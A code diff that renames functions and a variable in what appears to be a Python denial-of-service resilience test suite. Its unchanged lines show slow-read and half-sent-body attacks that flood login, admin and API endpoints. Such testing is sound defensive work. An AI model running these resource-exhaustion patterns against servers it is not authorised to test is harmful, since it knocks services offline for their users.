@@ -89,7 +89,7 @@ def attack(function: Callable[[Target], Iterator[None]]) -> Attack:
 
 
 @attack
-def a_static_file_that_is_not_taken(target: Target) -> Iterator[None]:
+def a_static_file_that_is_not_read(target: Target) -> Iterator[None]:
     """C1"""
     asked = target.head(f"GET {target.large_file()}") * 4  # more than the kernel takes of it
     for _ in range(MANY):
@@ -98,7 +98,7 @@ def a_static_file_that_is_not_taken(target: Target) -> Iterator[None]:
 
 
 @attack
-def pages_and_answers_that_are_not_taken(target: Target) -> Iterator[None]:
+def pages_and_answers_that_are_not_read(target: Target) -> Iterator[None]:
     for path in ("/api/schema", "/login/", "/static/nothing"):
         for _ in range(MANY):
             target.connect(target.head(f"GET {path}") * 10, receives=SMALL)
@@ -131,7 +131,7 @@ def requests_in_line_without_an_end(target: Target) -> Iterator[None]:
 def bodies_that_do_not_come(target: Target) -> Iterator[None]:
     """C3 at every kind of door: the first of it at once, and then nothing."""
     form, json_body = "Content-Type: multipart/form-data; boundary=b", "Content-Type: application/json"
-    doors = [
+    endpoints = [
         ("/login/", form, f"Cookie: csrf={'a' * 32}"),
         ("/admin/login/", form, f"Cookie: csrf={'a' * 32}"),
         ("/api/auth/login", json_body, ""),
@@ -142,7 +142,7 @@ def bodies_that_do_not_come(target: Target) -> Iterator[None]:
         ("/ws/events", json_body, ""),
         ("/static/nothing", json_body, ""),
     ]
-    for path, *headers in doors:
+    for path, *headers in endpoints:
         head = target.head(f"POST {path}", f"Content-Length: {MIB}", *filter(None, headers))
         for _ in range(MANY // 3):
             target.connect(head + b"x" * (MIB // 2))
